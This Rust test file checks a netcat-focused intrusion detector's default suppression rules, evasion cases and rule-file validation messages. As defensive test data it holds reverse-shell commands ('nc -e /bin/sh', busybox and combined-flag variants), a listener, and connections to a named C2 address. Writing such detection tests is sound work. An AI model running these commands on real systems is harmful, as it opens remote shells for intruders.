//! Scenario tests: the advisory's five benign netcat uses are excluded as
//! `network-tool` by the default rules, their evasion counterparts are still reported,
//! and rule files with mistakes are refused with exact messages.

use super::*;

const C2: &str = "217.60.195.160";
const CONTAINER_ID: &str = "4f1c2b3a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a";

fn netcat(command: &str) -> Subject {
    let argv = replay::split_command_line(command);
    Subject {
        comm: "nc".to_string(),
        exe_path: Some("/usr/bin/nc.openbsd".to_string()),
        argv,
        ancestors: vec![Ancestor::named("bash"), Ancestor::named("sshd")],
        user: Some("root".to_string()),
        uid: Some(0),
        destination_ip: "192.0.2.10".parse().ok(),
        destination_port: 9000,
        ..Subject::default()
    }
}

fn to(mut subject: Subject, ip: &str, port: u16) -> Subject {
    subject.destination_ip = ip.parse().ok();
    subject.destination_port = port;
    subject
}

fn under(mut subject: Subject, ancestors: &[&str]) -> Subject {
    subject.ancestors = ancestors.iter().map(|name| Ancestor::named(name)).collect();
    subject
}

fn indicator(subject: Subject) -> Subject {
    Subject {
        indicator_hit: true,
        ..to(subject, C2, 4569)
    }
}

fn defaults() -> RuleSet {
    match RuleSet::builtin() {
        Ok(rules) => rules,
        Err(error) => panic!("default rules do not load: {error}"),
    }
}

use DetectionClass::{Ioc, NetworkTool, ReverseShell};

fn assert_excluded_by(rules: &RuleSet, subject: &Subject, rule: &str) {
    let verdict = rules.evaluate(subject);
    assert_eq!(verdict.classes, [NetworkTool], "{subject:?}");
    assert!(verdict.is_excluded(), "{subject:?} -> {verdict:?}");
    assert_eq!(verdict.suppressed_by.as_deref(), Some(rule), "{subject:?}");
}

#[test]
fn default_rules_load_and_never_name_ioc() {
    let rules = defaults();
    assert_eq!(rules.len(), 6);
    for rule in rules.rules() {
        assert_eq!(rule.suppressed_classes(), [NetworkTool], "{}", rule.name);
    }
}

#[test]
fn scenario_backup_restore() {
    let rules = defaults();
    let backup = to(netcat("nc -q0 10.0.0.5 9000 backup"), "10.0.0.5", 9000);
    assert_excluded_by(&rules, &backup, "netcat-backup-restore");
    let restore = netcat("nc -N backup-host 9000 restore");
    assert_excluded_by(&rules, &restore, "netcat-backup-restore");
    // Tokens, not substrings: a host that merely contains "backup" is not a backup.
    let lookalike = netcat("nc evil-backup.example 4444");
    assert_eq!(rules.evaluate(&lookalike).reported_classes, [NetworkTool]);
}

#[test]
fn evasion_backup_to_indicator_is_reported() {
    let rules = defaults();
    // A binary named nc (in /tmp, not the packaged one) with "backup" in its args.
    let mut attacker = indicator(netcat(&format!("nc {C2} 4569 backup")));
    attacker.exe_path = Some("/tmp/.x/nc".to_string());
    let verdict = rules.evaluate(&attacker);
    assert_eq!(verdict.classes, [Ioc, NetworkTool]);
    assert_eq!(verdict.reported_classes, [Ioc]);
    assert!(verdict.is_reported());
    assert_eq!(
        verdict.suppressed_by.as_deref(),
        Some("netcat-backup-restore")
    );
}

#[test]
fn scenario_admin_diagnostics() {
    let rules = defaults();
    for command in [
        "nc -zv 10.0.0.1 22",
        "nc -z 10.0.0.1 22",
        "nc -w3 10.0.0.1 22",
        "nc -w 3 10.0.0.1 22",
        "nc -v 10.0.0.1 22",
        "nc -nvz 10.0.0.1 20-25",
    ] {
        assert_excluded_by(&rules, &netcat(command), "netcat-admin-diagnostics");
    }
    let mut ncat = netcat("ncat --wait=2 10.0.0.1 22");
    ncat.comm = "ncat".to_string();
    ncat.exe_path = Some("/usr/bin/ncat".to_string());
    assert_excluded_by(&rules, &ncat, "netcat-admin-diagnostics");
    // Not a diagnostic: a listener, or no diagnostic flag at all.
    assert!(rules.evaluate(&netcat("nc -lv 4444")).is_reported());
    assert!(rules.evaluate(&netcat("nc 10.0.0.1 22")).is_reported());
}

#[test]
fn evasion_diagnostics_to_indicator_is_reported() {
    let rules = defaults();
    let verdict = rules.evaluate(&indicator(netcat(&format!("nc -zv {C2} 4569"))));
    assert_eq!(verdict.reported_classes, [Ioc]);
}

#[test]
fn scenario_cron_log_shipping() {
    let rules = defaults();
    let cron = ["sh", "cron", "systemd"];
    let by_path = under(netcat("nc -q1 loghost 5140 /var/log/syslog"), &cron);
    assert_excluded_by(&rules, &by_path, "netcat-cron-log-paths");
    let by_word = under(netcat("nc -q1 loghost 5140 syslog"), &["crond"]);
    assert_excluded_by(&rules, &by_word, "netcat-cron-log-paths");
    let by_port = to(
        under(netcat("nc -u -q1 loghost 514"), &cron),
        "10.0.0.7",
        514,
    );
    assert_excluded_by(&rules, &by_port, "netcat-cron-syslog-destination");
    // The same command outside cron is reported.
    let interactive = netcat("nc -q1 loghost 5140 /var/log/syslog");
    assert!(rules.evaluate(&interactive).is_reported());
    // A path that is not under /var/log is not log shipping.
    let elsewhere = under(netcat("nc -q1 loghost 5140 /var/lib/secret"), &cron);
    assert!(rules.evaluate(&elsewhere).is_reported());
}

#[test]
fn evasion_reverse_shell_under_cron_is_reported() {
    let rules = defaults();
    let shell = to(
        under(
            netcat("nc -e /bin/sh 10.0.0.7 514 /var/log/syslog"),
            &["sh", "cron"],
        ),
        "10.0.0.7",
        514,
    );
    let verdict = rules.evaluate(&shell);
    assert_eq!(verdict.classes, [NetworkTool, ReverseShell]);
    assert_eq!(verdict.reported_classes, [NetworkTool, ReverseShell]);
    assert_eq!(verdict.suppressed_by, None);
    assert_eq!(verdict.reverse_shell_evidence.as_deref(), Some("-e"));
    // Busybox and combined spellings too.
    let mut busybox = under(netcat("busybox nc 10.0.0.7 514 -e /bin/sh"), &["crond"]);
    busybox.comm = "busybox".to_string();
    busybox.exe_path = Some("/bin/busybox".to_string());
    assert!(rules.evaluate(&busybox).classes.contains(&ReverseShell));
    let combined = under(netcat("nc -lvpe 4444"), &["cron"]);
    assert!(rules.evaluate(&combined).classes.contains(&ReverseShell));
}

#[test]
fn scenario_container_internal() {
    let rules = defaults();
    let mut internal = to(netcat("nc redis 6379"), "172.17.0.3", 6379);
    internal.container_id = Some(CONTAINER_ID.to_string());
    internal.source_ip = "172.17.0.2".parse().ok();
    assert_excluded_by(&rules, &internal, "netcat-container-internal");

    // Source unknown (the usual case at connect time): any private destination.
    let mut unknown_source = internal.clone();
    unknown_source.source_ip = None;
    unknown_source.destination_ip = "10.20.0.4".parse().ok();
    assert_excluded_by(&rules, &unknown_source, "netcat-container-internal");

    // Another /16 than the container's own address is not its network.
    let mut other_net = internal.clone();
    other_net.destination_ip = "172.18.0.3".parse().ok();
    assert!(rules.evaluate(&other_net).is_reported());
    // The public internet and the cloud metadata service are not either.
    let mut public = internal.clone();
    public.destination_ip = "198.51.100.7".parse().ok();
    assert!(rules.evaluate(&public).is_reported());
    let mut metadata = internal.clone();
    metadata.destination_ip = "169.254.169.254".parse().ok();
    assert!(rules.evaluate(&metadata).is_reported());
    // Same traffic outside a container is reported.
    let mut host = internal.clone();
    host.container_id = None;
    assert!(rules.evaluate(&host).is_reported());
    // Inside a container, to an indicator: reported.
    let mut to_c2 = indicator(internal);
    to_c2.destination_ip = "172.17.0.9".parse().ok();
    assert_eq!(rules.evaluate(&to_c2).reported_classes, [Ioc]);
}

#[test]
fn scenario_security_scanner_by_ancestry() {
    let rules = defaults();
    for scanner in [
        "nmap",
        "masscan",
        "openvas",
        "ospd-openvas",
        "gvmd",
        "nessusd",
        "lynis",
    ] {
        let subject = under(netcat("nc 10.0.0.9 22"), &["sh", scanner, "systemd"]);
        assert_excluded_by(&rules, &subject, "netcat-under-security-scanner");
    }
    // Ancestor matched by its executable's name when the comm differs.
    let mut subject = under(netcat("nc 10.0.0.9 22"), &[]);
    subject.ancestors = vec![Ancestor {
        name: "nessus-worker".to_string(),
        exe_path: Some("/opt/nessus/sbin/nessusd".to_string()),
    }];
    assert_excluded_by(&rules, &subject, "netcat-under-security-scanner");
    // The scanner's name in netcat's own arguments means nothing.
    let in_args = netcat("nc 10.0.0.9 22 nmap");
    assert!(rules.evaluate(&in_args).is_reported());
    let in_args = netcat("nc nessusd 22");
    assert!(rules.evaluate(&in_args).is_reported());
    // Under a scanner, to an indicator: reported.
    let to_c2 = indicator(under(netcat("nc 1 2"), &["nmap"]));
    assert_eq!(rules.evaluate(&to_c2).reported_classes, [Ioc]);
}

#[test]
fn other_tools_are_not_touched_by_the_netcat_defaults() {
    let rules = defaults();
    let mut curl = netcat("curl -v -o /tmp/x http://10.0.0.1/backup");
    curl.comm = "curl".to_string();
    curl.exe_path = Some("/usr/bin/curl".to_string());
    let verdict = rules.evaluate(&curl);
    assert_eq!(verdict.classes, [NetworkTool]);
    assert!(verdict.is_reported());
    // Not a watched tool, no indicator: nothing to say.
    let mut python = netcat("python3 -c x");
    python.comm = "python3".to_string();
    python.exe_path = Some("/usr/bin/python3".to_string());
    assert_eq!(rules.evaluate(&python), Verdict::default());
}

#[test]
fn counters_count_excluded_events_per_rule() {
    let rules = defaults();
    rules.evaluate(&netcat("nc -zv 10.0.0.1 22"));
    rules.evaluate(&netcat("nc -w3 10.0.0.1 22"));
    rules.evaluate(&netcat("nc -q0 h 1 backup"));
    // Partially suppressed (ioc still reported) and reverse shells do not count.
    rules.evaluate(&indicator(netcat("nc -zv 1 2")));
    rules.evaluate(&netcat("nc -zv -e /bin/sh 1 2"));
    // judge() does not count.
    let _ = rules.judge(&netcat("nc -zv 10.0.0.1 22"));
    let counts: Vec<(String, u64)> = rules
        .suppression_counts()
        .into_iter()
        .map(|count| (count.rule, count.excluded))
        .collect();
    assert_eq!(counts[0], ("netcat-backup-restore".to_string(), 1));
    assert_eq!(counts[1], ("netcat-admin-diagnostics".to_string(), 2));
    assert!(counts[2..].iter().all(|(_, n)| *n == 0));

    let reloaded = defaults();
    reloaded.adopt_counts(&rules);
    assert_eq!(reloaded.suppression_counts()[1].excluded, 2);
}

#[test]
fn a_rule_naming_ioc_may_suppress_it() {
    let rules = RuleSet::from_toml(
        r#"
[[rule]]
name = "lab-sinkhole"
destinations = ["217.60.195.0/24"]
users = ["lab"]
suppresses = ["ioc", "network-tool"]
"#,
        "lab.toml",
    )
    .expect("valid");
    let mut lab = indicator(netcat("nc 217.60.195.160 4569"));
    lab.user = Some("lab".to_string());
    let verdict = rules.evaluate(&lab);
    assert!(verdict.is_excluded());
    assert_eq!(verdict.suppressions.len(), 2);
    // Not another user.
    assert!(rules.evaluate(&indicator(netcat("nc 1 2"))).is_reported());
}

#[test]
fn rule_keys_match_as_documented() {
    let rules = RuleSet::from_toml(
        r#"
[[rule]]
name = "paths"
exe_paths = ["/opt/tools/**"]
process_names = ["nc"]
arg_substrings = ["/srv/dump"]
uids = [1000]
suppresses = ["network-tool"]

[[rule]]
name = "installed-scanner"
ancestor_names = ["nmap"]
ancestor_exe_paths = ["/usr/bin/*"]
suppresses = ["network-tool"]
"#,
        "t.toml",
    )
    .expect("valid");
    let mut tool = netcat("nc h 1 </srv/dump.tgz");
    tool.exe_path = Some("/opt/tools/bin/nc".to_string());
    tool.uid = Some(1000);
    assert_eq!(
        rules.evaluate(&tool).suppressed_by.as_deref(),
        Some("paths")
    );
    tool.uid = Some(0);
    assert!(rules.evaluate(&tool).is_reported());

    // Name and path must hold for the same ancestor.
    let mut fake = netcat("nc h 1");
    fake.ancestors = vec![
        Ancestor {
            name: "nmap".to_string(),
            exe_path: Some("/tmp/nmap".to_string()),
        },
        Ancestor {
            name: "bash".to_string(),
            exe_path: Some("/usr/bin/bash".to_string()),
        },
    ];
    assert!(rules.evaluate(&fake).is_reported());
    fake.ancestors[0].exe_path = Some("/usr/bin/nmap".to_string());
    assert_eq!(
        rules.evaluate(&fake).suppressed_by.as_deref(),
        Some("installed-scanner")
    );
}

fn error_of(text: &str) -> String {
    match RuleSet::from_toml(text, "rules.toml") {
        Ok(_) => panic!("accepted: {text}"),
        Err(error) => error.to_string(),
    }
}

#[test]
fn validation_errors_name_file_rule_and_key() {
    let cases: &[(&str, &str)] = &[
        (
            "[[rule]]\nname = \"a\"\nsuppresses = [\"reverse-shell\"]\ntools = [\"netcat\"]\n",
            "rules.toml:1: rule 1 \"a\": key `suppresses`: \"reverse-shell\" can never be suppressed",
        ),
        (
            "[[rule]]\nname = \"ok\"\ntools = [\"netcat\"]\nsuppresses = [\"network-tool\"]\n\n[[rule]]\nname = \"typo\"\nproces_names = [\"nc\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:6: rule 2 \"typo\": key `proces_names`: unknown key",
        ),
        (
            "[[rule]]\nname = \"everything\"\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"everything\": no match conditions: the rule would suppress every connection",
        ),
        (
            "[[rule]]\nname = \"only-absent\"\nunless_flags = [\"-l\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"only-absent\": no match conditions: the rule would suppress every connection",
        ),
        (
            "[[rule]]\nname = \"net\"\ndestinations = [\"10.0.0.0/33\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"net\": key `destinations`: \"10.0.0.0/33\" is not a CIDR network, an IP address or \"container-network\"",
        ),
        (
            "[[rule]]\nname = \"cls\"\ntools = [\"netcat\"]\nsuppresses = [\"network_tool\"]\n",
            "rules.toml:1: rule 1 \"cls\": key `suppresses`: unknown detection class \"network_tool\"; expected \"network-tool\" or \"ioc\"",
        ),
        (
            "[[rule]]\nname = \"none\"\ntools = [\"netcat\"]\n",
            "rules.toml:1: rule 1 \"none\": key `suppresses`: missing; list the classes this rule may suppress (\"network-tool\", \"ioc\")",
        ),
        (
            "[[rule]]\ntools = [\"netcat\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 (unnamed): key `name`: missing; every rule needs a unique name",
        ),
        (
            "[[rule]]\nname = \"d\"\ntools = [\"netcat\"]\nsuppresses = [\"ioc\"]\n[[rule]]\nname = \"d\"\ntools = [\"curl\"]\nsuppresses = [\"ioc\"]\n",
            "rules.toml:5: rule 2 \"d\": key `name`: duplicate name; rule 1 already uses it",
        ),
        (
            "[[rule]]\nname = \"f\"\nflags = [\"-zv\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"f\": key `flags`: \"-zv\" combines flags; write one flag per entry (\"-z\", \"-v\")",
        ),
        (
            "[[rule]]\nname = \"f\"\nflags = [\"z\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"f\": key `flags`: \"z\" is not a flag; write \"-x\" or \"--name\"",
        ),
        (
            "[[rule]]\nname = \"t\"\ntools = [\"nmap\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"t\": key `tools`: unknown tool \"nmap\"; expected one of netcat, socat, telnet, tftp, wget, curl",
        ),
        (
            "[[rule]]\nname = \"e\"\nargs = []\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"e\": key `args`: empty list; remove the key or give at least one value",
        ),
        (
            "[[rule]]\nname = \"p\"\nexe_paths = [\"bin/nc\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"p\": key `exe_paths`: \"bin/nc\" is not an absolute path or pattern (must start with /)",
        ),
        (
            "[[rule]]\nname = \"c\"\ncontainer_ids = [\"abc\"]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"c\": key `container_ids`: \"abc\" is too short; give a full container id or a prefix of at least 12 characters",
        ),
        (
            "[[rule]]\nname = \"ty\"\ntools = \"netcat\"\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"ty\": key `tools`: invalid type: string \"netcat\", expected a sequence",
        ),
        (
            "[[rule]]\nname = \"port\"\ndestination_ports = [70000]\nsuppresses = [\"network-tool\"]\n",
            "rules.toml:1: rule 1 \"port\": key `destination_ports`: invalid value: integer `70000`, expected u16",
        ),
        ("version = 2\n", "rules.toml: unsupported version 2; this iocmon reads version 1"),
    ];
    for (text, expected) in cases {
        assert_eq!(error_of(text), *expected, "for:\n{text}");
    }
}

#[test]
fn file_level_errors() {
    let unknown = error_of("rules = []\n");
    assert!(
        unknown.starts_with("rules.toml:1: unknown field `rules`"),
        "{unknown}"
    );
    let syntax = error_of("[[rule]]\nname = \"x\nsuppresses = []\n");
    assert!(syntax.starts_with("rules.toml:2: "), "{syntax}");
    let missing = RuleSet::load(Path::new("/nonexistent/rules.toml"));
    let message = missing.map(|_| ()).map_err(|e| e.to_string());
    assert_eq!(
        message,
        Err(
            "/nonexistent/rules.toml: cannot read: No such file or directory (os error 2)"
                .to_string()
        )
    );
    // An empty file is a valid, empty rule set.
    assert!(RuleSet::from_toml("", "empty.toml").is_ok_and(|rules| rules.is_empty()));
}

#[test]
fn hostile_subjects_do_not_panic() {
    let rules = defaults();
    let mut subject = netcat("");
    for argv in [
        vec![],
        vec![String::new()],
        vec!["\u{fffd}\n".to_string(), "-\u{fffd}e".to_string()],
        vec!["busybox".to_string()],
        vec!["nc".to_string(), "-".repeat(5000)],
        vec!["nc".to_string(), "-w".to_string()],
    ] {
        subject.argv = argv;
        let _ = rules.evaluate(&subject);
    }
    subject.destination_ip = None;
    subject.exe_path = Some(String::new());
    let _ = rules.evaluate(&subject);
}
